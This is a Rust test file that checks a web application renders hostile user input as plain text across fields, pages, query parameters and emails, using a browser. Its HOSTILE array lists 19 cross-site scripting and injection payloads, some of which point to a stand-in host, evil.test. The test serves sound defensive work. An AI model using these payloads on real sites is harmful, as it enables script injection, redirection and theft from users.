//! What people write is shown as they wrote it, and does nothing: hostile texts in every field that
//! takes a text, then every page and every mail in a real browser.

mod fields;
mod work;

use std::collections::BTreeSet;
use std::fs;

use reqwest::Client;
use serde_json::{Value, json};
use tests::browser;
use tests::messages::Messages;
use tests::world::World;

use crate::screens;
use fields::{Garden, Planted};

/// What would run, lead away, break out or deceive, if a page took it for more than a text. The
/// canary is `__owned`, and nobody lives at `evil.test`.
const HOSTILE: [&str; 19] = [
    "<script>__owned(1)</script>",
    "\"><img src=x onerror=__owned(2)>",
    "' onfocus='__owned(3)' autofocus='",
    "\" onmouseover=\"__owned(4)\" style=\"position:fixed;inset:0\" x=\"",
    "javascript:__owned(5)//",
    "{{constructor.constructor('__owned(6)')()}}${__owned(6)}{% raw %}<%= 6 %>",
    "</title><script>__owned(7)</script>",
    "<svg/onload=__owned(8)><animate onbegin=__owned(8) dur=1s>",
    "\"},\"x\":\"</script><script>__owned(9)</script>",
    "</style><style>@import url(//evil.test/10);*{display:none}</style>",
    "<iframe srcdoc=\"<script>parent.__owned(11)</script>\"></iframe>",
    "<a href=\"javascript:__owned(12)\">x</a><form action=//evil.test>",
    "&lt;img src=x onerror=__owned(13)&gt;&#60;script&#62;",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.test\">",
    "</textarea></pre></option></select><img src=//evil.test/15>",
    "`-__owned(16)-`<!--><img src=x onerror=__owned(16)>-->",
    "\u{202e}fdp.exe\u{2066}\u{200b}\u{200d}\u{feff}<b>17</b>",
    "<template shadowrootmode=open><script>__owned(18)</script></template>",
];

#[tokio::test]
async fn hostile_texts_are_inert_and_are_seen_as_texts() {
    let messages = Messages::start().await;
    let settings = json!({
        "via": "http", "from_name": "Gantry", "from_address": "gantry@ours.test",
        "http": messages.provider("/emails"),
    });
    let mut world = World::plan().with_mail_settings(settings).start().await;
    world.set_var("PUBLIC_URL", world.url());
    world.restart().await;
    let garden = Garden::plant(&world, &HOSTILE).await;
    let mails = messages.taken(garden.mails).await;
    let mails: Vec<&Value> = mails.iter().map(|mail| &mail["body"]["html"]).collect();
    let about = json!({
        "visits": visits(&world, &garden).await,
        "texts": garden.planted,
        "mails": mails,
    });
    // All of it is more than a command line takes.
    let file = tempfile::NamedTempFile::new().expect("a file");
    fs::write(file.path(), about.to_string()).expect("a file");
    let found = browser::run(&world, "inert.mjs", json!({ "about": file.path() })).await;
    println!("{} views of {} texts: {}", found["views"], garden.planted.len(), found["seen"]);
    let seen =
        |it: &Planted| found["seen"].as_array().is_some_and(|all| all.contains(&json!(it.field)));
    let shown = garden.planted.iter().filter(|it| it.shown && !seen(it));
    let unseen: BTreeSet<&str> = shown.map(|it| it.field.as_str()).collect();
    assert!(unseen.is_empty(), "written, and to be seen nowhere: {unseen:?}");
}

/// Each page for whom it is: a customer of each text, an operator, and strangers.
async fn visits(world: &World, garden: &Garden) -> Vec<Value> {
    let operator = screens::operator(world).await;
    let mut visits = Vec::new();
    for (index, customer) in garden.customers.iter().enumerate() {
        let known = customer.known();
        let known: Vec<(&str, &str)> = known.iter().map(|(k, v)| (*k, v.as_str())).collect();
        for page in screens::pages(&known) {
            assert!(!page.contains('{'), "{page}: say in inert/fields.rs what it may be");
            let of_operator = page.starts_with("/admin") && page != screens::ENTRY;
            let cookie = if of_operator { &operator } else { &customer.cookie };
            // What an operator sees of all customers is looked at once.
            let theirs = known.iter().any(|(_, value)| page.contains(value));
            if index == 0 || !of_operator || theirs {
                visits.push(json!({ "path": page, "cookie": cookie, "status": 200 }));
            }
            if index % 6 == 0 {
                visits.push(json!({ "path": hostile(&page, HOSTILE[index]), "cookie": cookie }));
            }
        }
    }
    let desk = garden.desk.iter();
    visits.extend(desk.map(|it| json!({ "path": it, "cookie": operator, "status": 200 })));
    visits
}

/// A page asked with texts where it may take words.
fn hostile(page: &str, text: &str) -> String {
    let names = ["next", "token", "query", "q", "search", "status", "after", "starting_after"];
    let url = reqwest::Url::parse_with_params("http://x", names.map(|name| (name, text)));
    let url = url.expect("a query");
    format!("{page}?{}", url.query().unwrap_or_default())
}

#[tokio::test]
async fn every_field_that_takes_a_text_has_been_tried() {
    let world = World::start().await;
    let document = Client::new().get(world.at("/openapi.json")).send().await.expect("an answer");
    let document: Value = document.json().await.expect("JSON");
    let all = fields::free_texts(&document);
    assert!(all.len() > 30, "{all:?}");
    let filled = |field: &str| fields::TRIED.iter().any(|(name, _)| *name == field);
    let excused = |field: &str| fields::EXCUSED.iter().any(|(part, _)| field.contains(part));
    let forgotten: Vec<_> = all.iter().filter(|it| !filled(it) && !excused(it)).collect();
    assert!(forgotten.is_empty(), "fill them in inert/fields.rs, or say why not: {forgotten:#?}");
    let gone = fields::TRIED.iter().filter(|(name, _)| !all.contains(*name));
    let gone: Vec<_> = gone.map(|(name, _)| name).collect();
    assert!(gone.is_empty(), "no row takes these any more: {gone:#?}");
    let idle = |part: &str| !all.iter().any(|field| field.contains(part));
    let idle: Vec<_> = fields::EXCUSED.iter().filter(|(part, _)| idle(part)).collect();
    assert!(idle.is_empty(), "excuses that nothing needs: {idle:#?}");
}
